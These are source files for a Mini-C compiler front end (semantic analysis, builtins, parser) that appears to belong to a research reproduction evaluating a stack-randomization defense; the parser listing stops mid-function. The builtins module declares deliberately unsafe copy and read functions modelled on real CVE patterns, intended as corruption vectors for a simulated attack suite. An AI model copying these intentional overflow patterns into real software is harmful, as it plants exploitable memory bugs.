        self, expr: ast.BinaryOp, left: ast.Expr, right: ast.Expr
    ) -> ast.Expr:
        if expr.op == "+":
            if left.ctype.is_pointer() and right.ctype.is_integer():
                pointer, integer = left, right
            elif right.ctype.is_pointer() and left.ctype.is_integer():
                pointer, integer = right, left
            else:
                raise SemanticError(
                    "pointer '+' requires one pointer and one integer", expr.location
                )
            self._require_complete_pointee(pointer, expr)
            expr.left = pointer
            expr.right = self._convert(integer, ct.LONG)
            expr.ctype = pointer.ctype
            return expr
        # op == "-"
        if left.ctype.is_pointer() and right.ctype.is_integer():
            self._require_complete_pointee(left, expr)
            expr.left = left
            expr.right = self._convert(right, ct.LONG)
            expr.ctype = left.ctype
            return expr
        if left.ctype.is_pointer() and right.ctype.is_pointer():
            if left.ctype.pointee != right.ctype.pointee:
                raise SemanticError(
                    "pointer difference requires identical pointee types",
                    expr.location,
                )
            self._require_complete_pointee(left, expr)
            expr.left, expr.right = left, right
            expr.ctype = ct.LONG
            return expr
        raise SemanticError("invalid pointer subtraction", expr.location)

    def _require_complete_pointee(self, pointer: ast.Expr, expr: ast.Expr) -> None:
        pointee = pointer.ctype.pointee
        if not pointee.is_complete():
            raise SemanticError(
                f"pointer arithmetic on incomplete type {pointee}", expr.location
            )

    def _check_Assignment(self, expr: ast.Assignment) -> ast.Expr:
        target = self._check_expr(expr.target)
        self._require_lvalue(target, "assignment target")
        if target.ctype.is_array():
            raise SemanticError("cannot assign to an array", expr.location)
        value = self._check_expr(expr.value)
        if expr.op is not None:
            # Compound assignment: desugar to `target = target' op value`
            # where target' is a CompoundRead marker the lowering stage
            # substitutes with the once-loaded current value.
            reader = ast.CompoundRead(expr.location)
            reader.ctype = target.ctype
            synthetic = ast.BinaryOp(expr.op, reader, value, expr.location)
            value = self._check_BinaryOp(synthetic)
            expr.op = None
        expr.target = target
        expr.value = self._convert_for_assignment(value, target.ctype, "assignment")
        expr.ctype = target.ctype
        return expr

    def _check_Conditional(self, expr: ast.Conditional) -> ast.Expr:
        expr.condition = self._check_condition(expr.condition)
        then_expr = self._rvalue(self._check_expr(expr.then_expr))
        else_expr = self._rvalue(self._check_expr(expr.else_expr))
        if then_expr.ctype.is_arithmetic() and else_expr.ctype.is_arithmetic():
            common = ct.common_arithmetic_type(then_expr.ctype, else_expr.ctype)
            expr.then_expr = self._convert(then_expr, common)
            expr.else_expr = self._convert(else_expr, common)
            expr.ctype = common
        elif then_expr.ctype == else_expr.ctype:
            expr.then_expr, expr.else_expr = then_expr, else_expr
            expr.ctype = then_expr.ctype
        elif then_expr.ctype.is_pointer() and _is_null_constant(else_expr):
            expr.then_expr = then_expr
            expr.else_expr = self._convert(else_expr, then_expr.ctype)
            expr.ctype = then_expr.ctype
        elif else_expr.ctype.is_pointer() and _is_null_constant(then_expr):
            expr.then_expr = self._convert(then_expr, else_expr.ctype)
            expr.else_expr = else_expr
            expr.ctype = else_expr.ctype
        else:
            raise SemanticError(
                f"incompatible branches of '?:' ({then_expr.ctype} vs {else_expr.ctype})",
                expr.location,
            )
        return expr

    def _check_Call(self, expr: ast.Call) -> ast.Expr:
        if not isinstance(expr.callee, ast.Identifier):
            raise SemanticError(
                "Mini-C only supports direct calls to named functions",
                expr.location,
            )
        name = expr.callee.name
        info = self._functions.get(name)
        if info is None:
            raise SemanticError(f"call to undeclared function '{name}'", expr.location)
        fn_type = info.fn_type
        if len(expr.args) < len(fn_type.params) or (
            len(expr.args) > len(fn_type.params) and not fn_type.variadic
        ):
            raise SemanticError(
                f"function '{name}' expects {len(fn_type.params)} argument(s), "
                f"got {len(expr.args)}",
                expr.location,
            )
        new_args: List[ast.Expr] = []
        for index, arg in enumerate(expr.args):
            checked = self._check_expr(arg)
            if index < len(fn_type.params):
                checked = self._convert_for_assignment(
                    checked, fn_type.params[index], f"argument {index + 1} of '{name}'"
                )
            else:
                checked = self._rvalue(checked)
            new_args.append(checked)
        expr.args = new_args
        expr.callee.ctype = fn_type
        expr.callee.decl = info.node
        expr.ctype = fn_type.return_type
        return expr

    def _check_Index(self, expr: ast.Index) -> ast.Expr:
        base = self._check_expr(expr.base)
        index = self._rvalue(self._check_expr(expr.index))
        if not index.ctype.is_integer():
            raise SemanticError("array subscript must be an integer", expr.location)
        if base.ctype.is_array():
            element = base.ctype.element
        elif base.ctype.is_pointer():
            base = self._rvalue(base)
            element = base.ctype.pointee
            if element.is_void():
                raise SemanticError("cannot index a 'void*'", expr.location)
        else:
            raise SemanticError(
                f"cannot subscript type {base.ctype}", expr.location
            )
        expr.base = base
        expr.index = self._convert(index, ct.LONG)
        expr.ctype = element
        return expr

    def _check_Member(self, expr: ast.Member) -> ast.Expr:
        base = self._check_expr(expr.base)
        if expr.is_arrow:
            base = self._rvalue(base)
            if not (base.ctype.is_pointer() and base.ctype.pointee.is_struct()):
                raise SemanticError(
                    f"'->' requires a pointer to struct, got {base.ctype}",
                    expr.location,
                )
            struct_type = base.ctype.pointee
        else:
            if not base.ctype.is_struct():
                raise SemanticError(
                    f"'.' requires a struct, got {base.ctype}", expr.location
                )
            struct_type = base.ctype
        index = struct_type.field_index(expr.field)
        expr.base = base
        expr.ctype = struct_type.field_type(index)
        return expr

    def _check_Cast(self, expr: ast.Cast) -> ast.Expr:
        operand = self._rvalue(self._check_expr(expr.operand))
        target = expr.target_type
        src = operand.ctype
        ok = (
            (src.is_arithmetic() and target.is_arithmetic())
            or (src.is_pointer() and target.is_pointer())
            or (src.is_integer() and target.is_pointer())
            or (src.is_pointer() and target.is_integer())
            or target.is_void()
        )
        if not ok:
            raise SemanticError(f"invalid cast from {src} to {target}", expr.location)
        expr.operand = operand
        expr.ctype = target
        return expr

    def _check_SizeofType(self, expr: ast.SizeofType) -> ast.Expr:
        if not expr.queried_type.is_complete():
            raise SemanticError("sizeof applied to incomplete type", expr.location)
        expr.ctype = ct.LONG
        return expr

    def _check_SizeofExpr(self, expr: ast.SizeofExpr) -> ast.Expr:
        operand = self._check_expr(expr.operand)
        if not operand.ctype.is_complete():
            raise SemanticError(
                "sizeof applied to expression of incomplete type", expr.location
            )
        expr.operand = operand
        expr.ctype = ct.LONG
        return expr

    # -- conversion helpers ----------------------------------------------------------

    def _rvalue(self, expr: ast.Expr) -> ast.Expr:
        """Apply array-to-pointer decay; other lvalues convert implicitly."""
        if expr.ctype is not None and expr.ctype.is_array():
            decayed = ast.Cast(
                ct.PointerType(expr.ctype.element), expr, expr.location
            )
            decayed.ctype = decayed.target_type
            return decayed
        return expr

    def _convert(self, expr: ast.Expr, target: ct.CType) -> ast.Expr:
        """Insert a cast to ``target`` if the type differs."""
        if expr.ctype == target:
            return expr
        cast = ast.Cast(target, expr, expr.location)
        cast.ctype = target
        return cast

    def _convert_for_assignment(
        self, value: ast.Expr, target: ct.CType, context: str
    ) -> ast.Expr:
        value = self._rvalue(value)
        src = value.ctype
        if src == target:
            return value
        if src.is_arithmetic() and target.is_arithmetic():
            return self._convert(value, target)
        if src.is_pointer() and target.is_pointer():
            if (
                src.pointee == target.pointee
                or src.pointee.is_void()
                or target.pointee.is_void()
            ):
                return self._convert(value, target)
            raise SemanticError(
                f"incompatible pointer types in {context}: {src} -> {target}",
                value.location,
            )
        if target.is_pointer() and _is_null_constant(value):
            return self._convert(value, target)
        raise SemanticError(
            f"cannot convert {src} to {target} in {context}", value.location
        )

    def _require_lvalue(self, expr: ast.Expr, context: str) -> None:
        if not is_lvalue(expr):
            raise SemanticError(f"{context} must be an lvalue", expr.location)

def is_lvalue(expr: ast.Expr) -> bool:
    """Whether ``expr`` designates a memory location."""
    if isinstance(expr, ast.Identifier):
        return True
    if isinstance(expr, ast.UnaryOp) and expr.op == "*":
        return True
    if isinstance(expr, ast.Index):
        return True
    if isinstance(expr, ast.Member):
        return True
    return False


def _is_null_constant(expr: ast.Expr) -> bool:
    node = expr
    while isinstance(node, ast.Cast):
        node = node.operand
    return isinstance(node, ast.IntLiteral) and node.value == 0


def analyze(unit: ast.TranslationUnit) -> ast.TranslationUnit:
    """Run semantic analysis; annotates and returns ``unit``."""
    return Sema().analyze(unit)
