"""Builtin (runtime-provided) functions available to Mini-C programs.

These model the slice of libc plus the experiment harness hooks that the
paper's workloads and exploits rely on.  The VM implements each of them in
`repro.vm.interpreter`; semantic analysis auto-declares them so Mini-C
programs can call them without writing ``extern`` prototypes.

Deliberately unsafe functions (``strcpy_``, ``input_read_unbounded``,
``snprintf_sim`` misuse, ``sstrncpy_``) are the memory-corruption vectors
the attack suite exploits, mirroring the CVEs in the paper:

* ``snprintf_sim`` returns the *would-be* length like C ``snprintf`` —
  the librelp CVE-2018-1000140 pattern (paper Listing 2),
* ``sstrncpy_`` accepts a (possibly negative, i.e. huge) length —
  the ProFTPD CVE-2006-5815 pattern,
* ``memcpy_`` with an attacker-controlled length — the Wireshark
  CVE-2014-2299 ``cf_read_frame_r`` pattern.
"""

from __future__ import annotations

from typing import Dict, List, NamedTuple

from repro.minic import types as ct


class BuiltinSignature(NamedTuple):
    """Declared signature of a runtime builtin."""

    name: str
    return_type: ct.CType
    params: List[ct.CType]
    variadic: bool = False


_CHAR_PTR = ct.PointerType(ct.CHAR)
_VOID_PTR = ct.PointerType(ct.VOID)


def _sig(name, return_type, *params, variadic=False) -> BuiltinSignature:
    return BuiltinSignature(name, return_type, list(params), variadic)


#: All builtins, keyed by name.
BUILTINS: Dict[str, BuiltinSignature] = {
    sig.name: sig
    for sig in [
        # --- input channel (the attacker's entry point) -----------------
        # Bounded read: copies at most n bytes of pending input.
        _sig("input_read", ct.INT, _CHAR_PTR, ct.INT),
        # Unbounded read: copies ALL pending input (classic gets()-style
        # stack smash vector used by the synthetic RIPE-style programs).
        _sig("input_read_unbounded", ct.INT, _CHAR_PTR),
        # Remaining unread input bytes.
        _sig("input_size", ct.LONG),
        # --- output channel (attacker-observable) -----------------------
        _sig("print_int", ct.VOID, ct.LONG),
        _sig("print_str", ct.VOID, _CHAR_PTR),
        _sig("output_bytes", ct.VOID, _CHAR_PTR, ct.LONG),
        # --- string/memory (libc-alikes; trailing underscore avoids any
        #     suggestion these are the host's libc) ----------------------
        _sig("strlen_", ct.LONG, _CHAR_PTR),
        _sig("strcpy_", _CHAR_PTR, _CHAR_PTR, _CHAR_PTR),
        _sig("strncpy_", _CHAR_PTR, _CHAR_PTR, _CHAR_PTR, ct.LONG),
        # ProFTPD's sstrncpy: length is signed and unchecked.
        _sig("sstrncpy_", _CHAR_PTR, _CHAR_PTR, _CHAR_PTR, ct.LONG),
        _sig("memcpy_", _VOID_PTR, _VOID_PTR, _VOID_PTR, ct.LONG),
        _sig("memset_", _VOID_PTR, _VOID_PTR, ct.INT, ct.LONG),
        _sig("strcmp_", ct.INT, _CHAR_PTR, _CHAR_PTR),
        # snprintf-alike: copies src into dst bounded by size, returns the
        # length snprintf WOULD have written (the librelp overflow lever).
        _sig("snprintf_sim", ct.INT, _CHAR_PTR, ct.INT, _CHAR_PTR),
        # --- heap --------------------------------------------------------
        _sig("malloc", _VOID_PTR, ct.LONG),
        _sig("free", ct.VOID, _VOID_PTR),
        # --- process / harness -------------------------------------------
        _sig("abort_", ct.VOID),
        _sig("exit_", ct.VOID, ct.INT),
        # Models a blocking I/O operation costing ~n cycles; used by the
        # I/O-bound benchmark applications (ProFTPD/Wireshark analogues).
        _sig("io_wait", ct.VOID, ct.LONG),
        # Deterministic guest-visible PRNG for workload data generation
        # (NOT related to Smokestack's randomness; benchmarks use it to
        # synthesize inputs reproducibly).
        _sig("guest_rand", ct.LONG),
        _sig("guest_srand", ct.VOID, ct.LONG),
    ]
}

#: Builtins that can write through a guest pointer without bounds checks;
#: used by analyses/tests to identify corruption vectors.
UNSAFE_BUILTINS = frozenset(
    {
        "input_read_unbounded",
        "strcpy_",
        "sstrncpy_",
        "memcpy_",
        "snprintf_sim",
    }
)


def builtin_function_type(name: str) -> ct.FunctionType:
    """FunctionType for builtin ``name`` (KeyError if unknown)."""
    sig = BUILTINS[name]
    return ct.FunctionType(sig.return_type, sig.params, sig.variadic)


def is_builtin(name: str) -> bool:
    return name in BUILTINS
