"""Recursive-descent parser for Mini-C.

The parser produces the AST defined in `repro.minic.astnodes`.  Types are
resolved during parsing (Mini-C has no typedefs, so a token lookahead is
enough to tell declarations from statements), struct tags are tracked in a
parser-owned table, and constant expressions for array lengths are folded
immediately.  A non-constant array length yields a VLA.
"""

from __future__ import annotations

from typing import Dict, List, Optional, Tuple

from repro.errors import ParseError, SourceLocation
from repro.minic import astnodes as ast
from repro.minic import types as ct
from repro.minic.lexer import tokenize
from repro.minic.tokens import Token, TokenKind

# Binary operator precedence, higher binds tighter.  Assignment and the
# conditional operator are handled separately (right-associative).
_BINARY_PRECEDENCE: Dict[TokenKind, Tuple[int, str]] = {
    TokenKind.OROR: (1, "||"),
    TokenKind.ANDAND: (2, "&&"),
    TokenKind.PIPE: (3, "|"),
    TokenKind.CARET: (4, "^"),
    TokenKind.AMP: (5, "&"),
    TokenKind.EQ: (6, "=="),
    TokenKind.NE: (6, "!="),
    TokenKind.LT: (7, "<"),
    TokenKind.GT: (7, ">"),
    TokenKind.LE: (7, "<="),
    TokenKind.GE: (7, ">="),
    TokenKind.LSHIFT: (8, "<<"),
    TokenKind.RSHIFT: (8, ">>"),
    TokenKind.PLUS: (9, "+"),
    TokenKind.MINUS: (9, "-"),
    TokenKind.STAR: (10, "*"),
    TokenKind.SLASH: (10, "/"),
    TokenKind.PERCENT: (10, "%"),
}

_COMPOUND_ASSIGN: Dict[TokenKind, str] = {
    TokenKind.PLUS_ASSIGN: "+",
    TokenKind.MINUS_ASSIGN: "-",
    TokenKind.STAR_ASSIGN: "*",
    TokenKind.SLASH_ASSIGN: "/",
    TokenKind.PERCENT_ASSIGN: "%",
    TokenKind.AMP_ASSIGN: "&",
    TokenKind.PIPE_ASSIGN: "|",
    TokenKind.CARET_ASSIGN: "^",
    TokenKind.LSHIFT_ASSIGN: "<<",
    TokenKind.RSHIFT_ASSIGN: ">>",
}


class Parser:
    """Parses one Mini-C translation unit."""

    def __init__(self, tokens: List[Token]):
        self._tokens = tokens
        self._pos = 0
        self._structs: Dict[str, ct.StructType] = {}

    # -- token stream helpers -----------------------------------------------------

    def _peek(self, offset: int = 0) -> Token:
        index = min(self._pos + offset, len(self._tokens) - 1)
        return self._tokens[index]

    def _advance(self) -> Token:
        token = self._tokens[self._pos]
        if token.kind is not TokenKind.EOF:
            self._pos += 1
        return token

    def _check(self, kind: TokenKind) -> bool:
        return self._peek().kind is kind

    def _match(self, kind: TokenKind) -> Optional[Token]:
        if self._check(kind):
            return self._advance()
        return None

    def _expect(self, kind: TokenKind, context: str = "") -> Token:
        token = self._peek()
        if token.kind is not kind:
            where = f" in {context}" if context else ""
            raise ParseError(
                f"expected {kind.value!r} but found {token.text or token.kind.value!r}{where}",
                token.location,
            )
        return self._advance()

    def _error(self, message: str) -> ParseError:
        return ParseError(message, self._peek().location)

    # -- entry point --------------------------------------------------------------

    def parse_translation_unit(self) -> ast.TranslationUnit:
        start = self._peek().location
        declarations: List[ast.Node] = []
        while not self._check(TokenKind.EOF):
            declarations.extend(self._parse_top_level())
        return ast.TranslationUnit(declarations, start)

    def _parse_top_level(self) -> List[ast.Node]:
        token = self._peek()
        if not token.is_type_start():
            raise self._error(
                f"expected a declaration at top level, found {token.text!r}"
            )
        # A struct definition: 'struct' IDENT '{' ... '}' ';'
        if (
            token.kind is TokenKind.KW_STRUCT
            and self._peek(1).kind is TokenKind.IDENT
            and self._peek(2).kind is TokenKind.LBRACE
        ):
            return [self._parse_struct_definition()]
        return self._parse_function_or_globals()

    # -- types --------------------------------------------------------------------

    def _at_type_start(self) -> bool:
        token = self._peek()
        return token.is_type_start()

    def _parse_declaration_specifiers(self) -> Tuple[ct.CType, bool]:
        """Parse qualifiers + base type.  Returns (type, is_extern)."""
        is_extern = False
        while self._peek().kind in (
            TokenKind.KW_CONST,
            TokenKind.KW_STATIC,
            TokenKind.KW_EXTERN,
        ):
            if self._advance().kind is TokenKind.KW_EXTERN:
                is_extern = True
        base = self._parse_base_type()
        # Trailing qualifiers (e.g. "int const") are accepted and ignored.
        while self._match(TokenKind.KW_CONST):
            pass
        return base, is_extern

    def _parse_base_type(self) -> ct.CType:
        token = self._peek()
        if token.kind is TokenKind.KW_UNSIGNED:
            self._advance()
            follow = self._peek()
            if follow.kind is TokenKind.KW_CHAR:
                self._advance()
                return ct.UCHAR
            if follow.kind is TokenKind.KW_SHORT:
                self._advance()
                self._match(TokenKind.KW_INT)
                return ct.USHORT
            if follow.kind is TokenKind.KW_LONG:
                self._advance()
                self._match(TokenKind.KW_LONG)
                self._match(TokenKind.KW_INT)
                return ct.ULONG
            self._match(TokenKind.KW_INT)
            return ct.UINT
        if token.kind is TokenKind.KW_CHAR:
            self._advance()
            return ct.CHAR
        if token.kind is TokenKind.KW_SHORT:
            self._advance()
            self._match(TokenKind.KW_INT)
            return ct.SHORT
        if token.kind is TokenKind.KW_INT:
            self._advance()
            return ct.INT
        if token.kind is TokenKind.KW_LONG:
            self._advance()
            self._match(TokenKind.KW_LONG)
            if self._match(TokenKind.KW_DOUBLE):
                return ct.DOUBLE
            self._match(TokenKind.KW_INT)
            return ct.LONG
        if token.kind is TokenKind.KW_FLOAT:
            self._advance()
            return ct.FLOAT
        if token.kind is TokenKind.KW_DOUBLE:
            self._advance()
            return ct.DOUBLE
        if token.kind is TokenKind.KW_VOID:
            self._advance()
            return ct.VOID
        if token.kind is TokenKind.KW_STRUCT:
            self._advance()
            tag = self._expect(TokenKind.IDENT, "struct type").text
            return self._struct_type(tag)
        raise self._error(f"expected a type, found {token.text!r}")

    def _struct_type(self, tag: str) -> ct.StructType:
        if tag not in self._structs:
            self._structs[tag] = ct.StructType(tag)
        return self._structs[tag]

    def _parse_pointers(self, base: ct.CType) -> ct.CType:
        while self._match(TokenKind.STAR):
            while self._match(TokenKind.KW_CONST):
                pass
            base = ct.PointerType(base)
        return base

    def _parse_array_suffixes(
        self, base: ct.CType
    ) -> Tuple[ct.CType, Optional[ast.Expr]]:
        """Parse ``[expr]`` suffixes.  Returns (type, vla_length_expr).

        A non-constant length makes the outermost dimension a VLA; only one
        VLA dimension is supported (enough for C99-style local buffers).
        """
        dims: List[Tuple[Optional[int], Optional[ast.Expr]]] = []
        while self._match(TokenKind.LBRACKET):
            if self._check(TokenKind.RBRACKET):
                raise self._error("array declarator requires a length in Mini-C")
            length_expr = self.parse_expression()
            self._expect(TokenKind.RBRACKET, "array declarator")
            folded = _try_fold_constant(length_expr)
            if folded is not None:
                if folded <= 0:
                    raise ParseError(
                        "array length must be positive", length_expr.location
                    )
                dims.append((folded, None))
            else:
                dims.append((None, length_expr))
        vla_expr: Optional[ast.Expr] = None
        # Build the array type inside-out (rightmost dimension innermost).
        for index, (length, expr) in enumerate(reversed(dims)):
            is_outermost = index == len(dims) - 1
            if expr is not None:
                if not is_outermost:
                    raise ParseError(
                        "only the outermost array dimension may be variable",
                        expr.location,
                    )
                vla_expr = expr
                base = ct.ArrayType(base, None)
            else:
                base = ct.ArrayType(base, length)
        return base, vla_expr

    # -- top-level declarations -----------------------------------------------------

    def _parse_struct_definition(self) -> ast.StructDef:
        location = self._expect(TokenKind.KW_STRUCT).location
        tag = self._expect(TokenKind.IDENT, "struct definition").text
        struct_type = self._struct_type(tag)
        self._expect(TokenKind.LBRACE, "struct definition")
        fields: List[Tuple[str, ct.CType]] = []
        while not self._check(TokenKind.RBRACE):
            base, _ = self._parse_declaration_specifiers()
            while True:
                field_type = self._parse_pointers(base)
                name = self._expect(TokenKind.IDENT, "struct field").text
                field_type, vla = self._parse_array_suffixes(field_type)
                if vla is not None:
                    raise self._error("struct fields cannot be variable-length")
                fields.append((name, field_type))
                if not self._match(TokenKind.COMMA):
                    break
            self._expect(TokenKind.SEMICOLON, "struct field")
        self._expect(TokenKind.RBRACE, "struct definition")
        self._expect(TokenKind.SEMICOLON, "struct definition")
        struct_type.set_fields(fields)
        return ast.StructDef(struct_type, location)

    def _parse_function_or_globals(self) -> List[ast.Node]:
        base, is_extern = self._parse_declaration_specifiers()
        first_type = self._parse_pointers(base)
        name_token = self._expect(TokenKind.IDENT, "declaration")
        if self._check(TokenKind.LPAREN):
            return [self._parse_function(first_type, name_token, is_extern)]
        return self._parse_global_variables(base, first_type, name_token)

    def _parse_function(
        self, return_type: ct.CType, name_token: Token, is_extern: bool
    ) -> ast.FunctionDef:
        self._expect(TokenKind.LPAREN, "function declaration")
        params: List[ast.ParamDecl] = []
        if not self._check(TokenKind.RPAREN):
            if self._check(TokenKind.KW_VOID) and self._peek(1).kind is TokenKind.RPAREN:
                self._advance()
            else:
                while True:
                    param_base, _ = self._parse_declaration_specifiers()
                    param_type = self._parse_pointers(param_base)
                    param_name = self._expect(TokenKind.IDENT, "parameter").text
                    param_type, vla = self._parse_array_suffixes(param_type)
                    if vla is not None or param_type.is_array():
                        # Arrays decay to pointers in parameter position.
                        assert isinstance(param_type, ct.ArrayType)
                        param_type = ct.PointerType(param_type.element)
                    params.append(
                        ast.ParamDecl(param_name, param_type, name_token.location)
                    )
                    if not self._match(TokenKind.COMMA):
                        break
        self._expect(TokenKind.RPAREN, "function declaration")
        body: Optional[ast.Block] = None
        if self._check(TokenKind.LBRACE):
            body = self._parse_block()
        else:
            self._expect(TokenKind.SEMICOLON, "function declaration")
        return ast.FunctionDef(
            str(name_token.value),
            return_type,
            params,
            body,
            is_extern=is_extern or body is None,
            location=name_token.location,
        )

    def _parse_global_variables(
        self, base: ct.CType, first_type: ct.CType, first_name: Token
    ) -> List[ast.Node]:
        decls: List[ast.Node] = []
        var_type, vla = self._parse_array_suffixes(first_type)
        if vla is not None:
            raise ParseError(
                "global variables cannot be variable-length", first_name.location
            )
        decls.append(self._finish_global(first_name, var_type))
        while self._match(TokenKind.COMMA):
            next_type = self._parse_pointers(base)
            name_token = self._expect(TokenKind.IDENT, "declaration")
            next_type, vla = self._parse_array_suffixes(next_type)
            if vla is not None:
                raise ParseError(
                    "global variables cannot be variable-length", name_token.location
                )
            decls.append(self._finish_global(name_token, next_type))
        self._expect(TokenKind.SEMICOLON, "declaration")
        return decls

    def _finish_global(self, name_token: Token, var_type: ct.CType) -> ast.VarDecl:
        initializer = None
        if self._match(TokenKind.ASSIGN):
            initializer = self.parse_assignment_expression()
        return ast.VarDecl(
            str(name_token.value),
            var_type,
            initializer=initializer,
            is_global=True,
            location=name_token.location,
        )

    # -- statements -----------------------------------------------------------------

    def _parse_block(self) -> ast.Block:
        location = self._expect(TokenKind.LBRACE, "block").location
        statements: List[ast.Stmt] = []
        while not self._check(TokenKind.RBRACE):
            if self._check(TokenKind.EOF):
                raise self._error("unterminated block")
            statements.append(self._parse_statement())
        self._expect(TokenKind.RBRACE, "block")
        return ast.Block(statements, location)

    def _parse_statement(self) -> ast.Stmt:
        token = self._peek()
        if token.kind is TokenKind.LBRACE:
            return self._parse_block()
        if token.kind is TokenKind.SEMICOLON:
            self._advance()
            return ast.EmptyStmt(token.location)
        if token.is_type_start():
            return self._parse_local_declaration()
        if token.kind is TokenKind.KW_IF:
            return self._parse_if()
        if token.kind is TokenKind.KW_WHILE:
            return self._parse_while()
        if token.kind is TokenKind.KW_DO:
            return self._parse_do_while()
        if token.kind is TokenKind.KW_FOR:
            return self._parse_for()
        if token.kind is TokenKind.KW_RETURN:
            self._advance()
            value = None
            if not self._check(TokenKind.SEMICOLON):
                value = self.parse_expression()
            self._expect(TokenKind.SEMICOLON, "return statement")
            return ast.Return(value, token.location)
        if token.kind is TokenKind.KW_BREAK:
            self._advance()
            self._expect(TokenKind.SEMICOLON, "break statement")
            return ast.Break(token.location)
        if token.kind is TokenKind.KW_CONTINUE:
            self._advance()
            self._expect(TokenKind.SEMICOLON, "continue statement")
            return ast.Continue(token.location)
        expr = self.parse_expression()
        self._expect(TokenKind.SEMICOLON, "expression statement")
        return ast.ExprStmt(expr, token.location)

    def _parse_local_declaration(self) -> ast.DeclStmt:
        location = self._peek().location
        base, _ = self._parse_declaration_specifiers()
        decls: List[ast.VarDecl] = []
        while True:
            var_type = self._parse_pointers(base)
            name_token = self._expect(TokenKind.IDENT, "declaration")
            var_type, vla_expr = self._parse_array_suffixes(var_type)
            initializer = None
            if self._match(TokenKind.ASSIGN):
                if vla_expr is not None:
                    raise ParseError(
                        "variable-length arrays cannot have initializers",
                        name_token.location,
                    )
                initializer = self.parse_assignment_expression()
            decls.append(
                ast.VarDecl(
                    str(name_token.value),
                    var_type,
                    initializer=initializer,
                    vla_length=vla_expr,
                    location=name_token.location,
                )
            )
            if not self._match(TokenKind.COMMA):
                break
        self._expect(TokenKind.SEMICOLON, "declaration")
        return ast.DeclStmt(decls, location)

    def _parse_if(self) -> ast.If:
        location = self._expect(TokenKind.KW_IF).location
        self._expect(TokenKind.LPAREN, "if statement")
        condition = self.parse_expression()
        self._expect(TokenKind.RPAREN, "if statement")
        then_branch = self._parse_statement()
        else_branch = None
        if self._match(TokenKind.KW_ELSE):
            else_branch = self._parse_statement()
        return ast.If(condition, then_branch, else_branch, location)

    def _parse_while(self) -> ast.While:
        location = self._expect(TokenKind.KW_WHILE).location
        self._expect(TokenKind.LPAREN, "while statement")
        condition = self.parse_expression()
        self._expect(TokenKind.RPAREN, "while statement")
        body = self._parse_statement()
        return ast.While(condition, body, location)

    def _parse_do_while(self) -> ast.DoWhile:
        location = self._expect(TokenKind.KW_DO).location
        body = self._parse_statement()
        self._expect(TokenKind.KW_WHILE, "do-while statement")
        self._expect(TokenKind.LPAREN, "do-while statement")
        condition = self.parse_expression()
        self._expect(TokenKind.RPAREN, "do-while statement")
        self._expect(TokenKind.SEMICOLON, "do-while statement")
        return ast.DoWhile(body, condition, location)

    def _parse_for(self) -> ast.For:
        location = self._expect(TokenKind.KW_FOR).location
        self._expect(TokenKind.LPAREN, "for statement")
        init: Optional[ast.Stmt] = None
        if not self._check(TokenKind.SEMICOLON):
            if self._peek().is_type_start():
                init = self._parse_local_declaration()
            else:
                expr = self.parse_expression()
                self._expect(TokenKind.SEMICOLON, "for statement")
                init = ast.ExprStmt(expr, expr.location)
        else:
            self._advance()
        condition = None
        if not self._check(TokenKind.SEMICOLON):
            condition = self.parse_expression()
        self._expect(TokenKind.SEMICOLON, "for statement")
        step = None
        if not self._check(TokenKind.RPAREN):
            step = self.parse_expression()
        self._expect(TokenKind.RPAREN, "for statement")
        body = self._parse_statement()
        return ast.For(init, condition, step, body, location)

    # -- expressions ------------------------------------------------------------------

    def parse_expression(self) -> ast.Expr:
        """Full expression including assignment (no comma operator)."""
        return self.parse_assignment_expression()

    def parse_assignment_expression(self) -> ast.Expr:
        left = self._parse_conditional()
        token = self._peek()
        if token.kind is TokenKind.ASSIGN:
            self._advance()
            value = self.parse_assignment_expression()
            return ast.Assignment(left, value, None, token.location)
        if token.kind in _COMPOUND_ASSIGN:
            self._advance()
            value = self.parse_assignment_expression()
            return ast.Assignment(
                left, value, _COMPOUND_ASSIGN[token.kind], token.location
            )
        return left

    def _parse_conditional(self) -> ast.Expr:
        condition = self._parse_binary(1)
        if not self._check(TokenKind.QUESTION):
            return condition
        location = self._advance().location
        then_expr = self.parse_expression()
        self._expect(TokenKind.COLON, "conditional expression")
        else_expr = self._parse_conditional()
        return ast.Conditional(condition, then_expr, else_expr, location)

    def _parse_binary(self, min_precedence: int) -> ast.Expr:
        left = self._parse_unary()
        while True:
            token = self._peek()
            entry = _BINARY_PRECEDENCE.get(token.kind)
            if entry is None or entry[0] < min_precedence:
                return left
            precedence, op = entry
            self._advance()
            right = self._parse_binary(precedence + 1)
            left = ast.BinaryOp(op, left, right, token.location)

    def _parse_unary(self) -> ast.Expr:
        token = self._peek()
        if token.kind is TokenKind.MINUS:
            self._advance()
            return ast.UnaryOp("-", self._parse_unary(), token.location)
        if token.kind is TokenKind.PLUS:
            self._advance()
            return self._parse_unary()
        if token.kind is TokenKind.BANG:
            self._advance()
            return ast.UnaryOp("!", self._parse_unary(), token.location)
        if token.kind is TokenKind.TILDE:
            self._advance()
            return ast.UnaryOp("~", self._parse_unary(), token.location)
        if token.kind is TokenKind.STAR:
            self._advance()
            return ast.UnaryOp("*", self._parse_unary(), token.location)
        if token.kind is TokenKind.AMP:
            self._advance()
            return ast.UnaryOp("&", self._parse_unary(), token.location)
        if token.kind is TokenKind.PLUSPLUS:
            self._advance()
            return ast.UnaryOp("++", self._parse_unary(), token.location)
        if token.kind is TokenKind.MINUSMINUS:
            self._advance()
            return ast.UnaryOp("--", self._parse_unary(), token.location)
        if token.kind is TokenKind.KW_SIZEOF:
            return self._parse_sizeof()
        if token.kind is TokenKind.LPAREN and self._peek(1).is_type_start():
            return self._parse_cast()
        return self._parse_postfix()

    def _parse_sizeof(self) -> ast.Expr:
        location = self._expect(TokenKind.KW_SIZEOF).location
        if self._check(TokenKind.LPAREN) and self._peek(1).is_type_start():
            self._advance()
            queried = self._parse_type_name()
            self._expect(TokenKind.RPAREN, "sizeof")
            return ast.SizeofType(queried, location)
        operand = self._parse_unary()
        return ast.SizeofExpr(operand, location)

    def _parse_cast(self) -> ast.Expr:
        location = self._expect(TokenKind.LPAREN).location
        target = self._parse_type_name()
        self._expect(TokenKind.RPAREN, "cast")
        operand = self._parse_unary()
        return ast.Cast(target, operand, location)

    def _parse_type_name(self) -> ct.CType:
        base, _ = self._parse_declaration_specifiers()
        full = self._parse_pointers(base)
        # Abstract array declarators like "int[4]" in sizeof/cast position.
        while self._match(TokenKind.LBRACKET):
            length_expr = self.parse_expression()
            self._expect(TokenKind.RBRACKET, "type name")
            folded = _try_fold_constant(length_expr)
            if folded is None or folded <= 0:
                raise ParseError(
                    "array length in type name must be a positive constant",
                    length_expr.location,
                )
